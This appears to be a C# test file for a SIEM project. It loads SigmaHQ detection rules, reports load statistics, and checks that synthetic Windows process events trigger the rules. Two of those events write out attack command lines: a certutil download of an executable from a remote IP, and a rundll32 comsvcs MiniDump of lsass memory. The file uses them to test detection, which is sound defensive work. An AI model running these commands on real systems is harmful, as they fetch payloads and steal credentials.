using System.Diagnostics;
using Llama3Siem.Prompts.Detection.Sigma;
using Llama3Siem.Prompts.Tests.Events;
using static Llama3Siem.Prompts.Tests.Detection.Sigma.SigmaTesting;

namespace Llama3Siem.Prompts.Tests.Detection.Sigma;

/// <summary>SigmaHQ's rule set in /work/shared (read, never copied into the project): how much of it loads.</summary>
public sealed class SigmaHqRuleSetTests(ITestOutputHelper output)
{
    [Fact]
    public void Every_sigmahq_rule_file_loads_or_is_skipped_with_a_reason()
    {
        var root = RepositoryFiles.SharedData(Path.Combine("sigma", "rules"));
        Assert.SkipWhen(root is null, "/work/shared/data/sigma/rules is absent");

        var results = new List<SigmaLoadResult>();
        var all = new List<SigmaRule>();
        var loaded = 0;
        var unmapped = 0;
        var skipped = new List<SigmaSkippedRule>();
        foreach (var area in new[] { "windows", "linux", "cloud", "network" })
        {
            var result = SigmaRuleLoader.LoadFolder(Path.Combine(root!, area));
            results.Add(result);
            var set = new SigmaRuleSet(result.Rules);
            all.AddRange(result.Rules);
            loaded += result.Rules.Count;
            unmapped += set.UnmappedCount;
            skipped.AddRange(result.Skipped);
            output.WriteLine($"{area}: {result.Rules.Count} loaded ({set.UnmappedCount} with an unmapped logsource), "
                + $"{result.Correlations.Count} correlations, {result.Skipped.Count} skipped");
        }

        var combined = SigmaLoadResult.Combine([.. results]);
        output.WriteLine($"correlations: {combined.Correlations.Count} resolved, {combined.Skipped.Count - skipped.Count} skipped when resolved; "
            + $"{combined.Rules.Count(r => !r.ReportsOnItsOwn)} rules report only through a correlation");

        var total = loaded + skipped.Count;
        output.WriteLine($"total: {loaded}/{total} loaded ({100.0 * loaded / total:F1}%), {unmapped} unmapped logsource");
        foreach (var reason in skipped.GroupBy(s => s.Reason).OrderByDescending(g => g.Count()))
        {
            output.WriteLine($"  {reason.Key}: {reason.Count()} (e.g. {Path.GetFileName(reason.First().File)}: {reason.First().Detail})");
        }

        foreach (var logsource in all.Where(r => !r.IsLogsourceMapped).GroupBy(r => r.Logsource.ToString())
                     .OrderByDescending(g => g.Count()).Take(12))
        {
            output.WriteLine($"  unmapped {logsource.Key}: {logsource.Count()}");
        }

        // 2,895 of 2,895 loaded before correlation and multi-document support; neither may cost a rule.
        Assert.True(loaded >= 2_895, $"{loaded} loaded");
        MatchOwnEvents(new SigmaRuleSet(all));
    }

    /// <summary>Events of our own making against the whole set: it runs, finds the obvious, and what it costs.</summary>
    private void MatchOwnEvents(SigmaRuleSet set)
    {
        var certutil = Process(("Image", @"C:\Windows\System32\certutil.exe"), ("OriginalFileName", "CertUtil.exe"),
            ("CommandLine", @"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe"),
            ("ParentImage", @"C:\Windows\System32\cmd.exe"), ("User", @"CORP\alice"));
        var minidump = Process(("Image", @"C:\Windows\System32\rundll32.exe"), ("OriginalFileName", "RUNDLL32.EXE"),
            ("CommandLine", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full"),
            ("ParentImage", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
        var quiet = Process(("Image", @"C:\Program Files\Notepad++\notepad++.exe"), ("CommandLine", "notepad++.exe readme.txt"),
            ("ParentImage", @"C:\Windows\explorer.exe"));

        foreach (var (name, evt) in new[] { ("certutil download", certutil), ("comsvcs minidump", minidump), ("notepad", quiet) })
        {
            var matches = set.Match(evt);
            var watch = Stopwatch.StartNew();
            const int Runs = 200;
            for (var i = 0; i < Runs; i++)
            {
                set.Match(evt);
            }

            output.WriteLine($"{name}: {matches.Count} matches in {watch.Elapsed.TotalMicroseconds / Runs:F0} µs per event: "
                + string.Join("; ", matches.Select(m => $"{m.Title} ({m.Level})")));
        }

        Assert.NotEmpty(set.Match(certutil));
        Assert.NotEmpty(set.Match(minidump));
    }
}
